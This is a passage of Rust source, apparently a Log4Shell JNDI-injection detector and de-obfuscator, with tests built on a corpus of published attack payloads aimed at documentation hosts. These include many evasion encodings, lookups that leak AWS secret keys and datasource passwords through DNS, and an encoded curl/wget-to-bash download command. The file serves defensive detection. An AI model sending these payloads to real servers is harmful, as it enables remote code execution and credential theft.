    }
    let mut out = Decoded::with_capacity(input.len());
    let mut changed = false;
    let mut i = 0;
    while let Some(&b) = input.get(i) {
        if b == b'&' {
            if let Some((c, len)) = input.get(i..).and_then(entity) {
                out.push_char(c, i);
                i += len;
                changed = true;
                continue;
            }
        }
        out.push(b, i);
        i += 1;
    }
    out.finish(input.len(), changed)
}

/// `text`, safe to put in a log line, at most `max_chars` of its characters (then `...`):
/// printable ASCII and letters or digits of any script stay as they are; backslashes,
/// control, format (e.g. bidirectional overrides) and other characters become Rust-style
/// escapes.
fn escape(text: &str, max_chars: usize) -> String {
    let mut out = String::with_capacity(text.len().min(max_chars + 3));
    for (count, c) in text.chars().enumerate() {
        if count == max_chars {
            out.push_str("...");
            break;
        }
        match c {
            '\\' => out.push_str("\\\\"),
            ' '..='~' => out.push(c),
            c if c.is_alphanumeric() => out.push(c),
            c => out.extend(c.escape_unicode()),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use std::time::{Duration, Instant};

    use super::*;

    /// A payload published in the Log4Shell write-ups, and what it must resolve to.
    struct Payload {
        payload: &'static str,
        scheme: &'static str,
        target: &'static str,
        /// A subset of the techniques reported.
        techniques: &'static [&'static str],
    }

    const fn payload(
        payload: &'static str,
        scheme: &'static str,
        target: &'static str,
        techniques: &'static [&'static str],
    ) -> Payload {
        Payload {
            payload,
            scheme,
            target,
            techniques,
        }
    }

    /// Payloads from the CVE-2021-44228 / CVE-2021-45046 reports of 2021-12 (LunaSec,
    /// Cloudflare, Fastly, Sophos, Akamai, and the evasion lists collected on GitHub), with
    /// the attacker's host replaced by a documentation one.
    const CORPUS: &[Payload] = &[
        // The original proof of concept: LDAP to a marshalsec/JNDIExploit server.
        payload("${jndi:ldap://198.51.100.7:1389/Exploit}", "ldap", "198.51.100.7:1389/Exploit", &[]),
        // Every JNDI provider scanners tried.
        payload("${jndi:ldaps://evil.example/a}", "ldaps", "evil.example/a", &[]),
        payload("${jndi:rmi://evil.example:1099/Object}", "rmi", "evil.example:1099/Object", &[]),
        payload("${jndi:dns://evil.example/a}", "dns", "evil.example/a", &[]),
        payload("${jndi:iiop://evil.example/a}", "iiop", "evil.example/a", &[]),
        payload("${jndi:corba://evil.example/a}", "corba", "evil.example/a", &[]),
        payload("${jndi:nds://evil.example/a}", "nds", "evil.example/a", &[]),
        payload("${jndi:nis://evil.example/a}", "nis", "evil.example/a", &[]),
        payload("${jndi:http://evil.example/a}", "http", "evil.example/a", &[]),
        // JNDIExploit's command-in-the-path, as the Mirai/Kinsing campaigns sent it.
        payload(
            "${jndi:ldap://198.51.100.7:12344/Basic/Command/Base64/KGN1cmwgLXMgMTk4LjUxLjEwMC43OjU4NzQvc2h8fHdnZXQgLXEgLU8tIDE5OC41MS4xMDAuNzo1ODc0L3NoKXxiYXNo}",
            "ldap",
            "198.51.100.7:12344/Basic/Command/Base64/KGN1cmwgLXMgMTk4LjUxLjEwMC43OjU4NzQvc2h8fHdnZXQgLXEgLU8tIDE5OC41MS4xMDAuNzo1ODc0L3NoKXxiYXNo",
            &[],
        ),
        // Case: the lookup prefix is lower-cased by Log4j, the scheme by the JDK lookup.
        payload("${jNdI:ldAp://evil.example/a}", "ldap", "evil.example/a", &["mixed-case"]),
        payload("${JNDI:LDAP://evil.example/a}", "ldap", "evil.example/a", &["mixed-case"]),
        // Empty-prefix defaults, one letter at a time (Cloudflare's first bypass list).
        payload(
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/poc}",
            "rmi",
            "evil.example/poc",
            &["default-value", "nested"],
        ),
        payload("${${::-j}ndi:rmi://evil.example/ass}", "rmi", "evil.example/ass", &["default-value", "nested"]),
        // `lower`.
        payload(
            "${${lower:jndi}:${lower:rmi}://evil.example/poc}",
            "rmi",
            "evil.example/poc",
            &["lower", "nested"],
        ),
        payload(
            "${${lower:${lower:jndi}}:${lower:rmi}://evil.example/poc}",
            "rmi",
            "evil.example/poc",
            &["lower", "nested"],
        ),
        payload(
            "${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://evil.example/poc}",
            "rmi",
            "evil.example/poc",
            &["lower", "nested"],
        ),
        // `lower` and `upper` mixed: the prefix comes out `jNdI`.
        payload(
            "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}://evil.example/poc}",
            "rmi",
            "evil.example/poc",
            &["lower", "upper", "mixed-case"],
        ),
        payload("${${upper:j}ndi:ldap://evil.example/a}", "ldap", "evil.example/a", &["upper", "nested"]),
        // Lookups in the scheme.
        payload(
            "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
            "ldap",
            "evil.example/a",
            &["lower", "nested"],
        ),
        payload(
            "${jndi:${upper:l}${upper:d}${upper:a}${upper:p}://evil.example/a}",
            "ldap",
            "evil.example/a",
            &["upper", "mixed-case"],
        ),
        // Defaults of unset environment variables and system properties.
        payload(
            "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}",
            "ldap",
            "evil.example/a",
            &["env", "default-value", "nested"],
        ),
        payload(
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
            "ldap",
            "evil.example/a",
            &["env", "default-value"],
        ),
        payload(
            "${${sys:SYS_NAME:-j}ndi${sys:SYS_NAME:-:}${sys:SYS_NAME:-l}dap${sys:SYS_NAME:-:}//evil.example/a}",
            "ldap",
            "evil.example/a",
            &["sys", "default-value"],
        ),
        // `date` with quoted literals.
        payload(
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:${date:'l'}${date:'d'}${date:'a'}${date:'p'}://evil.example/a}",
            "ldap",
            "evil.example/a",
            &["date", "nested"],
        ),
        // Lookups that are only there for their default (the "k5" list).
        payload(
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}",
            "ldap",
            "evil.example/a",
            &["k8s", "sd", "default-value", "mixed-case"],
        ),
        payload(
            "${j${main:\\k5:-Nd}i${spring:k5:-:}ldap://evil.example/a}",
            "ldap",
            "evil.example/a",
            &["main", "spring", "default-value", "mixed-case"],
        ),
        payload(
            "${j${sys:k5:-nD}${lower:i${web:k5:-:}}ldap://evil.example/a}",
            "ldap",
            "evil.example/a",
            &["sys", "lower", "web", "default-value", "mixed-case"],
        ),
        payload("${j${::-nD}i${::-:}ldap://evil.example/a}", "ldap", "evil.example/a", &["default-value", "mixed-case"]),
        payload(
            "${j${EnV:K5:-nD}i:ldap://evil.example/a}",
            "ldap",
            "evil.example/a",
            &["env", "default-value", "mixed-case"],
        ),
        payload("${j${loWer:Nd}i${uPper::}ldap://evil.example/a}", "ldap", "evil.example/a", &["lower", "upper"]),
        // Unicode case mapping: `ı` (dotless i) upper-cases to `I`.
        payload("${jnd${upper:ı}:ldap://evil.example/a}", "ldap", "evil.example/a", &["upper", "mixed-case"]),
        // Any prefix will do for a default.
        payload(
            "${${what:ever:-j}${some:thing:-n}${other:thing:-d}${and:last:-i}:ldap://evil.example/a}",
            "ldap",
            "evil.example/a",
            &["default-value"],
        ),
        payload(
            "${${upper:jndi}:${lower:LDAP}://evil.example/a}",
            "ldap",
            "evil.example/a",
            &["upper", "lower", "mixed-case"],
        ),
        payload(
            "${${lower:${lower:${lower:${lower:j}}}}ndi:ldap://evil.example/a}",
            "ldap",
            "evil.example/a",
            &["lower", "nested"],
        ),
        // CVE-2021-45046: a loopback host that passes 2.15's allow-list, then `#`.
        payload(
            "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
            "ldap",
            "127.0.0.1#evil.example:1389/a",
            &[],
        ),
        // Exfiltration: secrets in the name, filled in by the target.
        payload(
            "${jndi:dns://evil.example/${env:AWS_SECRET_ACCESS_KEY}}",
            "dns",
            "evil.example/${env:AWS_SECRET_ACCESS_KEY}",
            &["env", "nested"],
        ),
        payload("${jndi:ldap://${env:USER}.evil.example/a}", "ldap", "${env:USER}.evil.example/a", &["env"]),
        payload(
            "${jndi:ldap://${sys:java.version}.evil.example/a}",
            "ldap",
            "${sys:java.version}.evil.example/a",
            &["sys"],
        ),
        payload("${jndi:ldap://evil.example/${java:version}}", "ldap", "evil.example/${java:version}", &["java"]),
        payload("${jndi:ldap://${hostName}.evil.example/a}", "ldap", "${hostName}.evil.example/a", &["nested"]),
        payload(
            "${jndi:dns://evil.example/${bundle:application:spring.datasource.password}}",
            "dns",
            "evil.example/${bundle:application:spring.datasource.password}",
            &["bundle"],
        ),
        payload("${jndi:ldap://evil.example/${ctx:loginId}}", "ldap", "evil.example/${ctx:loginId}", &["ctx"]),
        // Encodings an application undoes before logging.
        payload("$%7Bjndi:ldap://evil.example/a%7D", "ldap", "evil.example/a", &["url-encoding"]),
        payload("%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "ldap", "evil.example/a", &["url-encoding"]),
        payload(
            "%2524%257Bjndi%253Aldap%253A%252F%252Fevil.example%252Fa%257D",
            "ldap",
            "evil.example/a",
            &["url-encoding", "double-url-encoding"],
        ),
        payload(
            "%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
            "ldap",
            "evil.example/a",
            &["url-encoding", "lower"],
        ),
        payload("\\u0024\\u007bjndi:ldap://evil.example/a\\u007d", "ldap", "evil.example/a", &["unicode-escape"]),
        payload("&#36;&#123;jndi:ldap://evil.example/a&#125;", "ldap", "evil.example/a", &["html-entity"]),
    ];

    /// Text with `${` that is no JNDI lookup, or that Log4j would not resolve to one.
    const BENIGN: &[&str] = &[
        // Maven and Spring properties.
        "<version>${project.version}</version>",
        "${user.home}/.m2/repository",
        "spring.datasource.url=${DB_URL:jdbc:postgresql://localhost/db}",
        // Shell.
        "cd ${HOME}/bin && echo ${VAR:-default}",
        // JavaScript, Kotlin and Groovy templates.
        "const s = `${a+b}`;",
        "\"Hello ${name.toUpperCase()}\"",
        // GitHub Actions.
        "token: ${{ secrets.GITHUB_TOKEN }}",
        // Lookups, but none JNDI.
        "${lower:HELLO} ${upper:world} ${date:yyyy-MM-dd} ${env:PATH:-/usr/bin}:${sys:user.dir}",
        // The word alone, or made by a lookup, is text.
        "Our docs explain JNDI and the jndi:ldap:// scheme",
        "${jndi} ${::-jndi}:ldap://evil.example/a",
        // An empty name looks up the initial context itself: no connection.
        "${jndi:}",
        // Escaped, as Log4j's own documentation writes it: printed literally.
        "pattern: $${jndi:ldap://evil.example/a}",
        // Not a lookup at all.
        "Total: $5 {discount} }${",
    ];

    fn technique_names(finding: &JndiFinding) -> String {
        finding.obfuscations.join(",")
    }

    #[test]
    fn published_payloads_resolve_to_their_server() {
        for case in CORPUS {
            let findings = find_jndi(case.payload.as_bytes());
            let [finding] = findings.as_slice() else {
                panic!("{}: {findings:#?}", case.payload);
            };
            assert_eq!(finding.scheme, case.scheme, "{}", case.payload);
            assert_eq!(finding.target, case.target, "{}", case.payload);
            assert_eq!(
                finding.normalized,
                format!("${{jndi:{}://{}}}", case.scheme, case.target),
                "{}",
                case.payload
            );
            assert_eq!(finding.location, "data");
            for technique in case.techniques {
                assert!(
                    finding.obfuscations.contains(technique),
                    "{}: {technique} not in {}",
                    case.payload,
                    technique_names(finding)
                );
            }
        }
        assert!(CORPUS.len() >= 30);
    }

    #[test]
    fn plain_payloads_report_no_technique() {
        let findings = find_jndi(b"${jndi:ldap://evil.example:1389/a}");
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].obfuscations, Vec::<&str>::new());
        assert_eq!(findings[0].raw, "${jndi:ldap://evil.example:1389/a}");
    }

    #[test]
    fn benign_text_has_no_finding() {
        for text in BENIGN {
            assert_eq!(find_jndi(text.as_bytes()), vec![], "{text}");
            let request = format!("POST /x?q={text} HTTP/1.1\r\nX-Text: {text}\r\n\r\n{text}");
            assert_eq!(find_jndi(request.as_bytes()), vec![], "{text}");
        }
    }

    #[test]
    fn deobfuscate_resolves_like_log4j() {
        let cases = [
            (
                "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/o}",
                "${jndi:rmi://x/o}",
            ),
            (
                "${jndi:${lower:l}${lower:d}a${lower:p}://x}",
                "${jndi:ldap://x}",
            ),
            (
                "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//x/a}",
                "${jndi:ldap://x/a}",
            ),
            (
                "${jndi:dns://x/${env:AWS_SECRET_ACCESS_KEY}}",
                "${jndi:dns://x/${env:AWS_SECRET_ACCESS_KEY}}",
            ),
            ("${${upper:j}ndi:LdAp://x}", "${jndi:ldap://x}"),
            ("${lower:JNDI} ${upper:jndi}", "jndi JNDI"),
            ("${date:'j'}${date:'''n'''}${date:yyyy}", "j'n'${date:yyyy}"),
            (
                "${env:USER} ${env:USER:-bob} ${sys:a.b:-c} ${main:0:-d} ${bundle:app:key:-e}",
                "${env:USER} bob c d e",
            ),
            ("${HOME} ${anything:-x} ${::-y} ${:-z}", "${HOME} x y z"),
            ("a${::-b}c$${::-d}", "abc${::-d}"),
            // A default's `$${` becomes a lookup when the value is resolved again.
            ("${::-$${lower:X}}", "x"),
            // A value ending in `$` escapes the lookup after it, and is dropped.
            ("${::-$}${lower:X}", "${lower:X}"),
            // The name is resolved before it is split at `:-`.
            ("${${::-env:NONE}${::-:-}fallback}", "fallback"),
            // CVE-2021-45105's self-reference resolves to an unknown property.
            ("${${::-${::-$${::-j}}}}", "${${::-${::-$${::-j}}}}"),
            // Unclosed: Log4j leaves the rest as it is.
            ("${lower:A} ${ ${lower:B}", "a ${ ${lower:B}"),
            ("\u{fdd0}${::-x}", "\u{fffd}x"),
        ];
        for (expr, expected) in cases {
            assert_eq!(deobfuscate(expr), expected, "{expr}");
        }
    }

    #[test]
    fn the_lookup_table_names_each_technique_once() {
        let all = Techniques(u64::MAX).names();
        let mut sorted = all.clone();
        sorted.sort_unstable();
        sorted.dedup();
        assert_eq!(sorted.len(), all.len());
        assert_eq!(all.len(), FIXED_TECHNIQUES.len() + LOOKUPS.len());
    }

    // === HTTP ===

    fn only(findings: &[JndiFinding]) -> &JndiFinding {
        let [finding] = findings else {
            panic!("{findings:#?}");
        };
        finding
    }

    #[test]
    fn user_agent() {
        let request = b"GET / HTTP/1.1\r\nHost: victim.example:8080\r\n\
            User-Agent: ${jndi:ldap://evil.example:1389/a}\r\nAccept: */*\r\n\r\n";
        let findings = find_jndi(request);
        let finding = only(&findings);
        assert_eq!(finding.location, "header:User-Agent");
        assert_eq!(finding.raw, "${jndi:ldap://evil.example:1389/a}");
        assert_eq!(finding.normalized, "${jndi:ldap://evil.example:1389/a}");
        assert_eq!(
            (finding.scheme.as_str(), finding.target.as_str()),
            ("ldap", "evil.example:1389/a")
        );
    }

    #[test]
    fn x_api_version() {
        // The header of the Ghidra/VMware write-ups, with a `k5`-style obfuscation.
        let request = b"GET /api/v1/status HTTP/1.1\r\nHost: victim.example\r\n\
            X-Api-Version: ${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/o}\r\n\r\n";
        let findings = find_jndi(request);
        let finding = only(&findings);
        assert_eq!(finding.location, "header:X-Api-Version");
        assert_eq!(finding.normalized, "${jndi:ldap://evil.example/o}");
        assert_eq!(
            finding.raw,
            "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/o}"
        );
    }

    #[test]
    fn url_encoded_query_string() {
        let request =
            b"GET /search?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D&page=1 HTTP/1.1\r\n\
            Host: victim.example\r\n\r\n";
        let findings = find_jndi(request);
        let finding = only(&findings);
        assert_eq!(finding.location, "request-line");
        assert_eq!(finding.raw, "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D");
        assert_eq!(finding.normalized, "${jndi:ldap://evil.example/a}");
        assert_eq!(finding.obfuscations, ["url-encoding"]);
    }

    #[test]
    fn json_body_with_unicode_escapes() {
        let body =
            br#"{"username":"\u0024\u007bjndi:ldap:\/\/evil.example\/a\u007d","password":"x"}"#;
        let mut request = format!(
            "POST /api/login HTTP/1.1\r\nHost: victim.example\r\nContent-Type: application/json\r\n\
             Content-Length: {}\r\n\r\n",
            body.len()
        )
        .into_bytes();
        request.extend_from_slice(body);
        let findings = find_jndi(&request);
        let finding = only(&findings);
        assert_eq!(finding.location, "body");
        assert_eq!(finding.normalized, "${jndi:ldap://evil.example/a}");
        assert_eq!(
            finding.raw,
            r"\\u0024\\u007bjndi:ldap:\\/\\/evil.example\\/a\\u007d"
        );
        assert!(finding.obfuscations.contains(&"unicode-escape"));
    }

    #[test]
    fn one_finding_per_location_and_lookup() {
        let request = b"GET /${jndi:ldap://evil.example/a} HTTP/1.1\r\n\
            User-Agent: ${jndi:ldap://evil.example/a} ${${::-j}ndi:ldap://evil.example/a}\r\n\
            Referer: ${jndi:ldap://evil.example/a}\r\n\
            Cookie: s=${jndi:rmi://evil.example/b}\r\n\r\n";
        let findings = find_jndi(request);
        let seen: Vec<_> = findings
            .iter()
            .map(|f| (f.location.as_str(), f.normalized.as_str()))
            .collect();
        assert_eq!(
            seen,
            [
                ("request-line", "${jndi:ldap://evil.example/a}"),
                ("header:User-Agent", "${jndi:ldap://evil.example/a}"),
                ("header:Referer", "${jndi:ldap://evil.example/a}"),
                ("header:Cookie", "${jndi:rmi://evil.example/b}"),
            ]
        );
    }

    #[test]
    fn a_lookup_cut_by_the_end_of_the_sample() {
        let findings = find_jndi(b"GET / HTTP/1.1\r\nUser-Agent: ${${lower:j}ndi:ldap://evil.exa");
        let finding = only(&findings);
        assert_eq!(finding.location, "header:User-Agent");
        assert_eq!(finding.raw, "${${lower:j}ndi:ldap://evil.exa");
        assert_eq!(finding.target, "evil.exa");
        // An unclosed `${` in a complete line is skipped, not taken to the end.
        let findings = find_jndi(
            b"GET / HTTP/1.1\r\nX-A: ${a ${jndi:ldap://evil.example/a}\r\nX-B: b\r\n\r\n",
        );
        let finding = only(&findings);
        assert_eq!(finding.location, "header:X-A");
        assert_eq!(finding.raw, "${jndi:ldap://evil.example/a}");
    }

    #[test]
    fn other_protocols_are_data() {
        for sample in [
            &b"HELO ${jndi:ldap://evil.example/a}\r\n"[..],
            b"\x00\x00\x00\x2a${jndi:ldap://evil.example/a}\xff",
            b"GET ${jndi:ldap://evil.example/a}\r\n",
        ] {
            let findings = find_jndi(sample);
            assert_eq!(only(&findings).location, "data");
        }
        assert_eq!(find_jndi(b""), vec![]);
    }

    #[test]
    fn a_folded_header_keeps_its_name() {
        let findings =
            find_jndi(b"GET / HTTP/1.0\r\nX-Long: a\r\n\t${jndi:ldap://evil.example/a}\r\n\r\n");
        assert_eq!(only(&findings).location, "header:X-Long");
    }

    #[test]
    fn strings_are_escaped_and_bounded() {
        let request = b"GET / HTTP/1.1\r\nX-\x1b[31m: ${jndi:ldap://evil.example/\x1b[0m\xe2\x80\xae}\r\n\r\n";
        let findings = find_jndi(request);
        let finding = only(&findings);
        assert_eq!(finding.location, "header:X-\\u{1b}[31m");
        assert_eq!(
            finding.raw,
            "${jndi:ldap://evil.example/\\u{1b}[0m\\u{202e}}"
        );
        assert_eq!(finding.target, "evil.example/\\u{1b}[0m\\u{202e}");

        let long = format!("${{jndi:ldap://evil.example/{}}}", "a".repeat(900));
        let finding = find_jndi(long.as_bytes()).remove(0);
        assert_eq!(finding.raw.chars().count(), MAX_RAW_CHARS + 3);
        assert!(finding.raw.ends_with("..."));
        assert_eq!(finding.normalized.chars().count(), MAX_FIELD_CHARS + 3);
    }

    #[test]
    fn nesting_beyond_the_limit_is_reported() {
        let nest = |levels: usize| {
            format!(
                "{}${{jndi:ldap://evil.example/a}}{}",
                "${::-".repeat(levels),
                "}".repeat(levels)
            )
        };
        let findings = find_jndi(nest(MAX_DEPTH - 1).as_bytes());
        assert_eq!(only(&findings).scheme, "ldap");
        let findings = find_jndi(nest(MAX_DEPTH + 8).as_bytes());
        let finding = only(&findings);
        assert_eq!(finding.scheme, "");
        assert!(finding.obfuscations.contains(&"limit-exceeded"));
    }

    // === Robustness ===

    /// A xorshift generator: deterministic, and no dependency.
    struct Rng(u64);

    impl Rng {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 7;
            self.0 ^= self.0 << 17;
            self.0
        }

        fn below(&mut self, n: usize) -> usize {
            usize::try_from(self.next() % u64::try_from(n).expect("fits")).expect("fits")
        }
    }

    #[test]
    fn random_bytes_never_panic() {
        const ALPHABET: &[u8] = b"${}:-$${::-jndiJNDIldap/%247B\\u0024&#36;\r\n ";
        let mut rng = Rng(0x5eed_1234_abcd_ef01);
        for round in 0..3000 {
            let len = rng.below(1100);
            let sample: Vec<u8> = (0..len)
                .map(|_| {
                    if round % 2 == 0 {
                        ALPHABET[rng.below(ALPHABET.len())]
                    } else {
                        rng.next().to_le_bytes()[0]
                    }
                })
                .collect();
            find_jndi(&sample);
            deobfuscate(&String::from_utf8_lossy(&sample));
        }
    }

    #[test]
    fn every_prefix_never_panics() {
        let mut samples: Vec<String> = CORPUS.iter().map(|case| case.payload.to_owned()).collect();
        samples.extend(CORPUS.iter().map(|case| {
            format!(
                "GET /?a={0} HTTP/1.1\r\nUser-Agent: {0}\r\n\r\n{{\"a\":\"{0}\"}}",
                case.payload
            )
        }));
        for sample in &samples {
            for end in 0..=sample.len() {
                find_jndi(&sample.as_bytes()[..end]);
            }
        }
    }

    #[test]
    fn adversarial_input_is_bounded() {
        let size = 64 * 1024;
        let inputs = [
            "${".repeat(size / 2),
            "${::-".repeat(size / 5) + &"}".repeat(size / 5),
            "${lower:".repeat(size / 8) + "jndi:ldap://x" + &"}".repeat(size / 8),
            "$".repeat(size) + "{",
            "${a}".repeat(size / 4),
            "$${::-".repeat(size / 6) + &"}".repeat(size / 6),
            "${::-${::-$${::-j}}}".repeat(size / 20),
            "%24%7B".repeat(size / 6),
            "\\u0024\\u007b".repeat(size / 12),
            "${upper:ΐ".repeat(size / 10) + &"}".repeat(size / 10),
            "}".repeat(size),
        ];
        for input in &inputs {
            let started = Instant::now();
            find_jndi(input.as_bytes());
            deobfuscate(input);
            let took = started.elapsed();
            assert!(
                took < Duration::from_secs(3),
                "{}...: {took:?}",
                &input[..16]
            );
        }
    }
}
